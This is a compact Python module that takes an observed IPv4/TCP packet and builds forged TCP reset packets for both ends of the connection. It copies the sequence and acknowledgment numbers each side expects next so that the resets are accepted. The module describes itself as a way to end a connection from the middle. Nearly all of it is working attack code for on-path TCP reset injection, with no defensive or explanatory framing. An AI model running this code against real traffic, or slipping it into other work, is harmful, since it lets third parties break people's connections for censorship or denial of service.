"""Just enough of IPv4 and TCP to end a connection from the middle."""

from __future__ import annotations

import struct

SYN, RST, ACK = 2, 4, 16
TCP, HEADER = 6, 20


def forged_resets(packet: bytes) -> tuple[bytes, bytes] | None:
    """Instead of a packet of a TCP connection: a reset for its receiver, and one for its sender.

    None for whatever else it is. Their numbers are those that the ends expect next, so that both
    believe them (RFC 5961).
    """
    if len(packet) < 2 * HEADER or packet[0] >> 4 != 4 or packet[9] != TCP:
        return None
    at = 4 * (packet[0] & 15)
    sender, receiver = packet[12:16], packet[16:20]
    from_port, to_port, sequence, acknowledged = struct.unpack_from("!HHII", packet, at)
    flags = packet[at + 13]
    if flags & (SYN | RST) or not flags & ACK:
        return None
    length = len(packet) - at - 4 * (packet[at + 12] >> 4)
    after = (sequence + length) % 2**32
    return (
        _reset(sender, receiver, from_port, to_port, sequence, acknowledged),
        _reset(receiver, sender, to_port, from_port, acknowledged, after),
    )


def _reset(
    sender: bytes, receiver: bytes, from_port: int, to_port: int, sequence: int, acknowledged: int
) -> bytes:
    fields = (from_port, to_port, sequence, acknowledged, 5 << 4, RST | ACK, 0)
    pseudo = sender + receiver + struct.pack("!HH", TCP, HEADER)
    checksum = internet_checksum(pseudo + struct.pack("!HHIIBBHHH", *fields, 0, 0))
    segment = struct.pack("!HHIIBBHHH", *fields, checksum, 0)
    head = struct.pack("!BBHHHBBH", 0x45, 0, 2 * HEADER, 0, 0, 64, TCP, 0) + sender + receiver
    checksum = internet_checksum(head)
    return head[:10] + struct.pack("!H", checksum) + head[12:] + segment


def internet_checksum(data: bytes) -> int:
    """RFC 1071; the data's length is even."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF
